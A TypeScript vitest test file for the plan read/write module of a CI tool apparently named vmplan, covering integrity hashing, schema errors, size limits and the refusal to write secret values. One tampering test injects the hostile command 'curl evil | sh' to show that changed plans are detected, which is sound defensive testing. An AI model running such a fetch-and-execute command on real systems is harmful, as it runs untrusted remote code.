import { closeSync, mkdtempSync, openSync, readFileSync, rmSync, writeSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { buildPlan, planIdOf } from '../../src/plan/build.js';
import { parsePlan, readPlan, serializePlan, writePlan } from '../../src/plan/io.js';
import { context, jobs } from '../support/jobs.js';

const folder = mkdtempSync(join(tmpdir(), 'vmplan-plan-io-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const config = jobs(`version: 1
images:
  debian: { arch: arm64, kernel: k/Image, initrd: k/initrd }
defaults: { image: debian }
jobs:
  build: { run: make }
  unit: { run: make test, needs: build, secrets: [TOKEN], env: { MODE: fast } }
`);
const plan = buildPlan(config, context());

function planErrors(text: string): string[] {
  try {
    parsePlan(text, 'plan.json');
  } catch (error) {
    return (error as Error).message.split('\n');
  }
  throw new Error('expected the plan to be rejected');
}

describe('plan read/write', () => {
  it('round-trips: what is written reads back equal, and rewrites to the same bytes', () => {
    const path = join(folder, 'plan.json');
    const text = writePlan(path, plan);
    const read = readPlan(path);
    expect(read).toEqual(plan);
    expect(serializePlan(read)).toBe(text);
    expect(readFileSync(path, 'utf8')).toBe(text);
  });

  it('detects a plan changed after it was written', () => {
    const tampered = serializePlan(plan).replace('"make test"', '"curl evil | sh"');
    expect(planErrors(tampered)).toEqual([
      `plan.json:3:13 planId: planId does not match the plan's content (expected ${
        buildPlan(
          jobs(`version: 1
images:
  debian: { arch: arm64, kernel: k/Image, initrd: k/initrd }
defaults: { image: debian }
jobs:
  build: { run: make }
  unit: { run: curl evil | sh, needs: build, secrets: [TOKEN], env: { MODE: fast } }
`),
          context(),
        ).planId
      }): the file was changed after it was written`,
    ]);
  });

  it('records only the report formats a job names, and still reads a plan that lists junit always', () => {
    const withReports = buildPlan(
      jobs(`version: 1
jobs:
  node: { run: node --test, executor: host, reports: { tap: [out/*.tap] } }
  go: { run: go test -json ./... > go.json, executor: host, reports: { go-json: [go.json], junit: [] } }
`),
      context(),
    );
    expect(withReports.nodes.map((node) => (node.kind === 'execute' ? node.reports : null))).toEqual([
      { 'go-json': ['go.json'] },
      { tap: ['out/*.tap'] },
    ]);
    // An older plan: every job carried reports.junit, empty or not.
    const older = JSON.parse(serializePlan(plan));
    for (const node of older.nodes) if (node.kind === 'execute') node.reports = { junit: [] };
    const { planId: _id, createdAt: _at, ...body } = older;
    older.planId = planIdOf(body);
    expect(parsePlan(JSON.stringify(older, null, 2), 'old.json').nodes[1]).toMatchObject({
      reports: { junit: [] },
    });
  });

  it('rejects text that is not JSON, saying where', () => {
    expect(planErrors('version: 1\n')).toEqual([
      'plan.json:1: not a plan: expected a JSON object, found "v" at the start',
    ]);
    expect(planErrors('')).toEqual(['plan.json:1: not a plan: expected a JSON object, found an empty file']);
    expect(planErrors('{\n  "schemaVersion": 1,\n  "planId" "x"\n}\n')).toEqual([
      'plan.json:3:12: not a plan: invalid JSON (colon expected)',
    ]);
    expect(planErrors('{"schemaVersion": 1,}')).toEqual([
      'plan.json:1:21: not a plan: invalid JSON (property name expected)',
    ]);
  });

  it('never reads a plan as YAML: a large YAML file is refused at its first byte', () => {
    const yaml = `jobs:\n${'  - { run: echo, needs: [a, b, c] }\n'.repeat(1_500_000)}`;
    expect(yaml.length).toBeGreaterThan(50_000_000);
    expect(planErrors(yaml)).toEqual([
      'plan.json:1: not a plan: expected a JSON object, found "j" at the start',
    ]);
  });

  it('rejects a jobs file given as a plan', () => {
    expect(planErrors('{"version": 1, "jobs": {}}')).toEqual([
      'plan.json:1:1 schemaVersion: not a plan this vmplan can read: schemaVersion undefined, expected 2',
    ]);
  });

  it('tells the user to upgrade for a newer plan format', () => {
    const newer = serializePlan(plan).replace('"schemaVersion": 2', '"schemaVersion": 3');
    expect(planErrors(newer)).toEqual([
      'plan.json:2:20 schemaVersion: not a plan this vmplan can read: schemaVersion 3, expected 2: it was written by a newer vmplan, upgrade to read it',
    ]);
  });

  it('tells the user to plan again for a plan of format 1 (it records no trust)', () => {
    const older = serializePlan(plan).replace('"schemaVersion": 2', '"schemaVersion": 1');
    expect(planErrors(older)).toEqual([
      'plan.json:2:20 schemaVersion: not a plan this vmplan can read: schemaVersion 1, expected 2: it was written by an older vmplan, before plans recorded the trust they were made under; plan again',
    ]);
  });

  it('says nothing about upgrading for an older or odd format version', () => {
    for (const [version, shown] of [
      ['0', '0'],
      ['"2"', '"2"'],
      ['null', 'null'],
    ])
      expect(
        planErrors(serializePlan(plan).replace('"schemaVersion": 2', `"schemaVersion": ${version}`)),
      ).toEqual([
        `plan.json:2:20 schemaVersion: not a plan this vmplan can read: schemaVersion ${shown}, expected 2`,
      ]);
  });

  it('names the value it found where a field is wrong', () => {
    const broken = serializePlan(plan).replace('"event": "push"', '"event": 42');
    expect(planErrors(broken)).toEqual([
      expect.stringMatching(/^plan\.json:\d+:\d+ source\.event: .*found 42$/),
    ]);
  });

  it('refuses a file over 64 MiB before reading it as a plan', () => {
    const path = join(folder, 'huge.json');
    const fd = openSync(path, 'w');
    writeSync(fd, '{');
    writeSync(fd, ' '.repeat(1024), 64 * 1024 * 1024);
    closeSync(fd);
    expect(() => readPlan(path, 'huge.json')).toThrow(
      `huge.json: not a plan: ${64 * 1024 * 1024 + 1024} bytes, more than the ${64 * 1024 * 1024} allowed`,
    );
    const exact = join(folder, 'exact.json');
    const text = serializePlan(plan);
    const padded = openSync(exact, 'w');
    writeSync(padded, text);
    writeSync(padded, ' '.repeat(64 * 1024 * 1024 - Buffer.byteLength(text)));
    closeSync(padded);
    expect(readPlan(exact).planId).toBe(plan.planId);
  });

  it('locates schema problems by line and column', () => {
    const broken = serializePlan(plan).replaceAll('"timeoutMinutes": 60', '"timeoutMinutes": "soon"');
    const errors = planErrors(broken);
    expect(errors).toHaveLength(2);
    for (const line of errors) expect(line).toMatch(/^plan\.json:\d+:\d+ nodes\[\d\]\.timeoutMinutes: /);
  });

  it('rejects structural inconsistencies (dependency on a missing node)', () => {
    const data = JSON.parse(serializePlan(plan));
    data.nodes[2].dependsOn = ['image:debian', 'job:ghost'];
    data.nodes[2].needs = ['ghost'];
    expect(planErrors(JSON.stringify(data, null, 2))).toEqual(
      expect.arrayContaining([
        'plan.json:1:1: node "job:unit" depends on "job:ghost", which is not in the plan',
      ]),
    );
  });

  it('reports an unreadable file clearly', () => {
    expect(() => readPlan(join(folder, 'missing.json'))).toThrow(
      /missing\.json: cannot read the plan: ENOENT/,
    );
  });

  it('refuses to write a plan containing a secret value', () => {
    const leaky = buildPlan(
      jobs(
        'version: 1\njobs:\n  j: { run: "deploy --token s3cr3t-value", executor: host, secrets: [TOKEN] }\n',
      ),
      context(),
    );
    const path = join(folder, 'leaky.json');
    expect(() => writePlan(path, leaky, ['s3cr3t-value'])).toThrow(/would contain the value of a secret/);
    expect(() => readFileSync(path)).toThrow(/ENOENT/);
    expect(() => writePlan(path, leaky, ['unrelated-secret'])).not.toThrow();
  });

  it('checks secrets of four characters or more (shorter ones would match everywhere)', () => {
    const short = buildPlan(
      jobs('version: 1\njobs:\n  j: { run: "echo abcd", executor: host, secrets: [TOKEN] }\n'),
      context(),
    );
    const path = join(folder, 'short.json');
    expect(() => writePlan(path, short, ['abcd'])).toThrow(/would contain the value of a secret/);
    expect(() => writePlan(path, short, ['abc'])).not.toThrow();
  });

  it('refuses secrets that JSON escapes: quotes, backslashes, line breaks (a PEM key, a JSON credential)', () => {
    for (const secret of [
      'pa"ss"word-1',
      'C:\\keys\\prod-key',
      '-----BEGIN KEY-----\nMIIB-abc\n-----END KEY-----',
    ]) {
      const leaky = buildPlan(
        jobs(
          `version: 1\njobs:\n  j:\n    executor: host\n    secrets: [TOKEN]\n    run: ${JSON.stringify(`use ${secret}`)}\n`,
        ),
        context(),
      );
      const path = join(folder, 'escaped.json');
      expect(() => writePlan(path, leaky, [secret]), secret).toThrow(/would contain the value of a secret/);
      expect(() => readFileSync(path)).toThrow(/ENOENT/);
    }
  });

  it('never replaces the file with a plan that fails validation', () => {
    const path = join(folder, 'atomic.json');
    writePlan(path, plan);
    const before = readFileSync(path, 'utf8');
    expect(() => writePlan(path, { ...plan, planId: 'f'.repeat(64) })).toThrow(/planId does not match/);
    expect(readFileSync(path, 'utf8')).toBe(before);
  });
});
